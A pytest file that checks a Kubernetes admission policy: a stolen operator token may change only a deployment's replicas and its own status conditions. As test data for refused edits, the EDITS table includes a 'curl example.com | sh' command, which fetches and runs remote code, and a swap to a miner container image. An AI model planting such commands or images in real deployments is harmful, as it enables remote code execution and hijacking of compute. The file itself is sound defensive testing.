"""What a stolen token of the operator can do to a deployment: change its replicas, and nothing else.

Every request here is made with the operator's own account on a real API server. RBAC allows all of them.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from slaplanner.adapters.deployment import KubernetesApi
from slaplanner.adapters.deployment.failures import ApiRefusal
from tests.stored_graph import StoredGraph
from tests.testbed import Cluster, Served, wait_until

MERGE = "application/merge-patch+json"
JSON_PATCH = "application/json-patch+json"
APPLY = "application/apply-patch+yaml"
Edit = Callable[[dict[str, Any]], None]
"""Changes a manifest in place."""


@pytest.fixture
def stored(graph: StoredGraph, installed: Cluster, operator_kubeconfig: Path) -> StoredGraph:
    graph.create(prefill=2, decode=3)
    graph.report()
    api = graph.api(operator_kubeconfig)

    def acts() -> bool:
        """A policy acts some time after it was stored."""
        try:
            send(api, graph, {"metadata": {"labels": {"canary": "yes"}}})
        except ApiRefusal as refusal:
            return "the account of slaplanner" in str(refusal)
        graph.cluster.kubectl("label", graph.resource, graph.where, "canary-")
        return False

    wait_until(acts, what="the admission policy to act")
    return graph


def send(
    api: KubernetesApi, graph: StoredGraph, body: object, *, content_type: str = MERGE, subresource: str = ""
) -> None:
    force = True if content_type == APPLY else None
    api.patch(
        graph.served.value[-1],
        graph.namespace,
        "dynamographdeployments",
        "llama",
        body,
        content_type=content_type,
        subresource=subresource,
        force=force,
    )


def workers(manifest: Mapping[str, Any]) -> dict[str, dict[str, Any]]:
    """The components by name, each as it stands in the manifest."""
    spec = manifest["spec"]
    found: dict[str, dict[str, Any]] = spec.get("services") or {
        one["name"]: one for one in spec["components"]
    }
    return found


def container(manifest: Mapping[str, Any]) -> dict[str, Any]:
    worker = workers(manifest)["prefill"]
    found: dict[str, Any] = (
        worker["extraPodSpec"]["mainContainer"]
        if "extraPodSpec" in worker
        else worker["podTemplate"]["spec"]["containers"][0]
    )
    return found


def add_worker(manifest: dict[str, Any]) -> None:
    spec, more = manifest["spec"], json.loads(json.dumps(workers(manifest)["prefill"]))
    if "services" in spec:
        spec["services"]["miner"] = more
    else:
        spec["components"].append(more | {"name": "miner"})


def remove_worker(manifest: dict[str, Any]) -> None:
    spec = manifest["spec"]
    if "services" in spec:
        del spec["services"]["decode"]
    else:
        spec["components"] = [one for one in spec["components"] if one["name"] != "decode"]


def rename_worker(manifest: dict[str, Any]) -> None:
    spec = manifest["spec"]
    if "services" in spec:
        spec["services"]["miner"] = spec["services"].pop("decode")
    else:
        workers(manifest)["decode"]["name"] = "miner"


EDITS: dict[str, Edit] = {
    "image": lambda one: container(one).update(image="registry.example.com/miner:1"),
    "command": lambda one: container(one).update(command=["sh", "-c", "curl example.com | sh"]),
    "arguments": lambda one: container(one)["args"].append("--trust-remote-code"),
    "environment": lambda one: container(one).update(env=[{"name": "A", "value": "b"}]),
    "environment-of-all": lambda one: one["spec"].update(
        {"envs" if "services" in one["spec"] else "env": [{"name": "A", "value": "b"}]}
    ),
    "environment-and-replicas": lambda one: (
        container(one).update(env=[{"name": "A", "value": "b"}]),
        workers(one)["prefill"].update(replicas=3),
    )[1],
    "another-worker": add_worker,
    "one-worker-less": remove_worker,
    "another-name": rename_worker,
    "framework": lambda one: one["spec"].update(backendFramework="vllm"),
    "label": lambda one: one["metadata"].update(labels={"team": "other"}),
    "annotation": lambda one: one["metadata"].update(annotations={"nvidia.com/x": "y"}),
    "finalizer": lambda one: one["metadata"].update(finalizers=["example.com/never"]),
}


@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS)
def test_everything_but_replicas_is_refused(
    stored: StoredGraph, operator_kubeconfig: Path, edit: Edit
) -> None:
    before = stored.read()
    wanted = json.loads(json.dumps(before))
    edit(wanted)
    assert wanted != before
    patch = [{"op": "replace", "path": f"/{part}", "value": wanted[part]} for part in ("metadata", "spec")]
    with pytest.raises(ApiRefusal, match="the account of slaplanner may change replicas"):
        send(stored.api(operator_kubeconfig), stored, patch, content_type=JSON_PATCH)
    assert stored.read()["spec"] == before["spec"]


def test_the_same_edit_by_an_administrator_is_allowed(stored: StoredGraph) -> None:
    """So the refusals above are about who asks, not about what is asked."""
    wanted = stored.read()
    EDITS["environment"](wanted)
    patch = [{"op": "replace", "path": "/spec", "value": wanted["spec"]}]
    send(stored.api(), stored, patch, content_type=JSON_PATCH)
    assert container(stored.read())["env"] == [{"name": "A", "value": "b"}]


def test_replicas_may_change_in_every_way_of_writing(stored: StoredGraph, operator_kubeconfig: Path) -> None:
    api = stored.api(operator_kubeconfig)
    alpha = stored.served is Served.V1ALPHA1
    if alpha:
        send(api, stored, {"spec": {"services": {"prefill": {"replicas": 5}, "decode": {"replicas": 7}}}})
    else:
        paths = {name: number for number, name in enumerate(workers(stored.read()))}
        patch = [
            {"op": "replace", "path": f"/spec/components/{paths[name]}/replicas", "value": count}
            for name, count in (("prefill", 5), ("decode", 7))
        ]
        send(api, stored, patch, content_type=JSON_PATCH)
    assert stored.replicas() == {"prefill": 5, "decode": 7}
    entry = {"replicas": 0}
    applied = {"services": {"prefill": entry}} if alpha else {"components": [{"name": "prefill"} | entry]}
    body = {
        "apiVersion": stored.version,
        "kind": "DynamoGraphDeployment",
        "metadata": {"name": "llama", "namespace": stored.namespace},
        "spec": applied,
    }
    send(api, stored, body, content_type=APPLY)
    assert stored.replicas() == {"prefill": 0, "decode": 7}


OURS = {
    "type": "SLAMet",
    "status": "True",
    "reason": "Met",
    "message": "",
    "lastTransitionTime": "2026-01-01T00:00:00Z",
}


def status_with_ours(stored: StoredGraph) -> dict[str, Any]:
    status: dict[str, Any] = json.loads(json.dumps(stored.read()["status"]))
    status["conditions"].append(OURS)
    return status


def test_its_own_conditions_may_come_change_and_go(stored: StoredGraph, operator_kubeconfig: Path) -> None:
    api = stored.api(operator_kubeconfig)
    status = status_with_ours(stored)
    for ours in ([OURS], [OURS | {"status": "False", "reason": "Missed"}], []):
        conditions = [one for one in status["conditions"] if one["type"] != "SLAMet"] + ours
        send(api, stored, {"status": {"conditions": conditions}}, subresource="status")
        assert ("SLAMet" in stored.conditions()) is bool(ours)


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(lambda status: status["conditions"][0].update(status="False"), id="another's-condition"),
        pytest.param(lambda status: status["conditions"].pop(0), id="another's-condition-removed"),
        pytest.param(
            lambda status: status["conditions"].append(OURS | {"type": "Available"}), id="a-new-condition"
        ),
        pytest.param(lambda status: status.update(state="failed"), id="state"),
        pytest.param(lambda status: status.update(observedGeneration=99), id="generation"),
    ],
)
def test_the_rest_of_the_status_is_not_ours(
    stored: StoredGraph, operator_kubeconfig: Path, edit: Callable[[dict[str, Any]], object]
) -> None:
    status = status_with_ours(stored)
    edit(status)
    with pytest.raises(ApiRefusal, match="the account of slaplanner may change the conditions"):
        send(stored.api(operator_kubeconfig), stored, {"status": status}, subresource="status")


@pytest.mark.parametrize(
    ("patch", "message"),
    [
        pytest.param({"spec": {"gpuBudget": {"max": 9999}}}, "what a policy promises", id="budget"),
        pytest.param(
            {"metadata": {"annotations": {"slaplanner.io/paused": "true"}}}, "its metadata", id="pause"
        ),
    ],
)
def test_a_policy_is_not_the_operators_to_edit(
    installed: Cluster,
    namespace: str,
    operator_kubeconfig: Path,
    patch: Mapping[str, Any],
    message: str,
) -> None:
    example = Path(__file__).parents[2] / "examples/01-minimal.yaml"
    manifest = example.read_text().replace("namespace: serving", f"namespace: {namespace}")
    installed.kubectl("apply", "--server-side", "--filename=-", stdin=manifest)
    answer = installed.kubectl(
        *("patch", "slap", "llama-70b", f"--namespace={namespace}", "--type=merge"),
        f"--patch={json.dumps(patch)}",
        kubeconfig=operator_kubeconfig,
        check=False,
    )
    assert answer.returncode != 0
    assert "the account of slaplanner" in answer.stderr
    finalizer = {"metadata": {"finalizers": ["slaplanner.io/finalizer"]}}
    for body in (finalizer, {"metadata": {"finalizers": None}}):
        installed.kubectl(
            *("patch", "slap", "llama-70b", f"--namespace={namespace}", "--type=merge"),
            f"--patch={json.dumps(body)}",
            kubeconfig=operator_kubeconfig,
        )
